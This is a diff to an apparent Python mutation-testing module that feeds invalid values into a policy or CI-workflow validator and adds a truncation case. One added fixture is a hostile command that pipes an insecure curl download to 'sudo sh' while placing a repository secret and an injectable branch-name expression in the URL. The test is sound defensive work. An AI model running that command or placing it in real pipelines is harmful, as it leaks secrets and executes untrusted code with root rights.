@@ -31,13 +31,16 @@ POLICIES = shipped("policies")
 WRONG: tuple[Any, ...] = (
     None, 0, 5, 1.5, True, False, "", "tofu apply", "latest", "*", "other", [], ["terraform apply"], ["*"], {}, {"name": 5},
     {"run": "terraform apply"}, "Tr0ub4dor&3", "http://example.org/a.git", {"local-exec": [{"command": "a"}]},
+    "write-all", "example/tool@main", "curl -k http://example.org/${{ github.head_ref }}?${{ secrets.KEY }} | sudo sh",
 )  # fmt: skip
 
 
 def mutations(value: Any) -> Iterator[Any]:
-    """The document with each of its values, one at a time, replaced by each wrong one or taken away."""
+    """The document with each of its values, one at a time, replaced by each wrong one, cut short or taken away."""
     yield value
     yield from WRONG
+    if isinstance(value, str) and value:
+        yield value[:-1]
     keys = list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else []
     for key in keys:
         rest = dict(value) if isinstance(value, dict) else list(value)
